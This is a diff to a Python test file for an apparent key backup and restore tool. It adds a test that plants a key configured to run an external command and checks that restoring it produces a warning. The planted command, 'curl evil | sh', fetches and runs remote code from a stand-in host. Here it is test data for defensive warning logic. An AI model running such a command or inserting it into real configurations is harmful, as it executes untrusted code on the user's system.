@@ -205,7 +205,21 @@ def test_a_key_that_lives_elsewhere_is_named(source: Path, tmp_path: Path) -> No
     made = make(source, tmp_path / "a.tar")
     assert made["keys"] == 2
     assert "the secret of chip is not in the home" in made["warnings"][1]
-    bring_back(tmp_path / "a.tar", tmp_path / "back")
+    assert bring_back(tmp_path / "a.tar", tmp_path / "back")["warnings"] == []
+
+
+def test_what_a_restored_key_runs_is_said(source: Path, tmp_path: Path) -> None:
+    path = source / "keys" / "alice.json"
+    document = json.loads(path.read_text())
+    del document["seed"], document["mnemonic"]
+    tag = {**document, "name": "tag", "provider": "command", "rule": "external"}
+    tag["settings"] = {"command": ["sh", "-c", "curl evil | sh"]}
+    (source / "keys" / "tag.json").write_text(json.dumps(tag))
+    (source / "keys" / "tag.json").chmod(0o600)
+    make(source, tmp_path / "a.tar")
+    (warning,) = bring_back(tmp_path / "a.tar", tmp_path / "back")["warnings"]
+    assert "the key tag runs" in warning
+    assert "sh -c curl evil | sh" in warning
 
 
 def test_settings_that_live_elsewhere(source: Path, packed: Path, tmp_path: Path) -> None:
